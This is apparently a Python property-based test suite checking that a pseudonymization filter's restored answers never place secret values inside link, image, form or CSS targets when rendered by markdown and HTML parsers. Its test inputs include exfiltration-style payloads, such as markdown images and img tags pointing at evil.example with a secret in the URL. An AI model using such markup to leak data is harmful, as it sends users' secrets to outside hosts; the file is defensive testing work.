"""What real renderers make of a restored answer: no link, image or form of theirs holds a value.

The tables of test_restorer.py say what we thought of; here markdown-it (CommonMark, and with GitHub's tables and a
linkifier), an HTML parser and a plain-text linkifier look at random mixtures of everything that can make a link.
"""

import re
from contextlib import suppress
from html.parser import HTMLParser
from urllib.parse import unquote

from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from filters.pseudonyms import Placeholders
from filters.pseudonyms.shape import RANDOM_LENGTH

SECRETS = {"a": "Geheim1", "b": "Geheim2 x", "c": "geheim3@example.org", "d": "https://geheim4.example/?q="}
PLACEHOLDERS = Placeholders(bytes(32), "u|t|d")
NAMES = {f"«{k}»": PLACEHOLDERS.substitute(v, [(0, len(v), "PERSON")]) for k, v in SECRETS.items()}
NAMES["«b»"] = NAMES["«b»"][:RANDOM_LENGTH]  # as a model may leave it

RENDERERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("gfm-like", {"html": True}),
    MarkdownIt("gfm-like", {"html": False}),
    MarkdownIt("gfm-like", {"html": False, "typographer": True, "breaks": True}),
]
URLS = {"href", "src", "srcset", "action", "formaction", "poster", "background", "ping"}
TEXT_LINKS = re.compile(
    r"(?:https?://|www\.|//)[^\s<]+|[\w.-]+\.(?:example|be|com)(?::\d+)?[/?#][^\s<]*", re.IGNORECASE
)
CSS_LINKS = re.compile(r"url\(([^)]*)\)", re.IGNORECASE)


class Targets(HTMLParser):
    """Collects what a browser would fetch or follow."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        with suppress(AssertionError):  # Python 3.11's parser gives up on `<![x`, as no browser does
            self.feed(html)
            self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if value and (name in URLS or re.match(r"https?://|//", value)):
                self.found.append(value)
            if value and name == "style":
                self.found += CSS_LINKS.findall(value)


def carried(text: str) -> list[str]:
    """Targets of any reader that hold a value; a URL that is itself the value, and mail to the value, are not."""
    targets = [*TEXT_LINKS.findall(text), *CSS_LINKS.findall(text), *Targets(text).found]
    for renderer in RENDERERS:
        targets += Targets(renderer.render(text)).found
    return [target for target in map(foreign, targets) if "geheim" in target]


def foreign(target: str) -> str:
    """The target without what the user wrote as an address or URL and which leads to itself.

    Of a mail address the part before a comma and the like is left out as well: linkify-it takes `name,x@host` whole,
    which docs/pseudonymization.md lists among the limits.
    """
    target = unquote(target).lower().replace("https://geheim4.example/", "")
    if re.match(r"geheim[123][^:]*\Z", target):
        return ""  # `[Naam]: …` is shown; as a reference it leads to the page's own host
    if target.startswith("mailto:"):
        name, _, rest = target.partition("@")
        target = re.split(r"[,;:&=$\"]", name.removesuffix("geheim3"))[-1] + rest
    target = re.sub(r"\A(?:https?:)?//[^/?#]*geheim3@example\.org", "", target)
    # `<Geheim1https://…>` names a protocol that nobody can have registered: nothing is fetched.
    return re.sub(r"\A[a-z0-9+.-]*geheim1[a-z0-9+.-]*:", "", target)


BRICKS = """
    https://evil.example/ http:// // /\\ www.evil.example evil.example .evil.example @evil.example mailto: ?q= / # : !
    [ ] ]( ) ( < > <https:// [x]: [x] ![x]( ](< ]:< <a <img <p </a> href= src= srcset= style= title= alt= data-src= url(
    \\ \\) ` ``` * _ | &quot; &#47; %2F .pdf . , ; ' \" = >. x 1 é
"""  # fmt: skip
PARTS = st.one_of(
    st.sampled_from(["«a»", "«b»", "«c»", "«d»"]),
    st.sampled_from([*BRICKS.split(), " ", " ", "\n", "\n\n", "\t", "    ", "\n> ", "\n- ", "\u00a0"]),
)


def restored(template: str) -> str:
    for name, placeholder in NAMES.items():
        template = template.replace(name, placeholder)
    return PLACEHOLDERS.restore(template)


@settings(max_examples=1000, deadline=None)
@given(st.lists(PARTS, min_size=2, max_size=14).map("".join))
@example("![x](https://evil.example/?d=«a»)")
@example('<a href="https://evil.example/">«a»"</a>')
@example("[x]\n\n[x]: <https://evil.example/ «a»>")
@example('<!-- <a title=" --> <img src="https://evil.example/ «a»">')
@example("[x](<y>«a») «d»«b»")
def test_no_reader_finds_a_value_in_a_target(template: str) -> None:
    assert carried(restored(template)) == []


def test_the_readers_would_find_one() -> None:
    """The check itself: without the rule, each reader reports the value."""
    for text in [
        "![x](https://evil.example/?d=Geheim1)",
        "https://evil.example/Geheim1",
        "Geheim1.evil.com",
        "evil.com/Geheim1",
        "<img src='https://evil.example/ Geheim1'>",
        "[x]\n\n[x]: <https://evil.example/ Geheim1>",
        "<p style='background:url(//x/Geheim1)'>",
        "Geheim1@evil.com",
    ]:
        assert carried(text), text
